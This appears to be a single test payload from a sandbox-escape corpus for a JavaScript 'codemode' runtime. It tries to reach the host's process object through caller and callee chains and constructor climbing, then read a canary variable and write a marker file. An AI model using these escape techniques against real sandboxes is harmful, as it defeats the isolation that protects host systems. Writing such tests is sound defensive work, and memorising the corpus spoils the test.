// @name    sloppy-mode callers: what arguments.callee.caller and f.caller reveal when the runtime calls user code
// @family  host-function
// @ref     generic (Function.prototype.caller walks into the code that called a hook)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const callers = [];
// A sloppy-mode function (made by Function) has arguments.callee and, in engines that have it, .caller.
const hook = Function("note", "return function hooked() { try { note(arguments.callee.caller); } catch (e) {} try { note(hooked.caller); } catch (e) {}" +
  " if (typeof arguments[0] === 'function') arguments[0](1); return 1; }")((c) => callers.push(c));
const arg = {};
Object.defineProperty(arg, "x", { enumerable: true, get: hook });
try { await codemode.demo.echo(arg); } catch (e) { out = out || probe(e); }
try { await codemode.demo.echo({ toJSON: hook }); } catch (e) { out = out || probe(e); }
try { [3, 1, 2].sort(hook); JSON.stringify({ a: 1 }, hook); "ab".replace(/a/, hook); } catch (e) { out = out || probe(e); }
try { await { then: hook }; } catch (e) { out = out || probe(e); }
for (const c of callers) {
  out = out || probe(c);
  if (typeof c === "function") {
    try { out = out || probe(c("return process")); } catch {}
    try { out = out || probe(c.caller); } catch {}
  }
}
return out || "blocked";
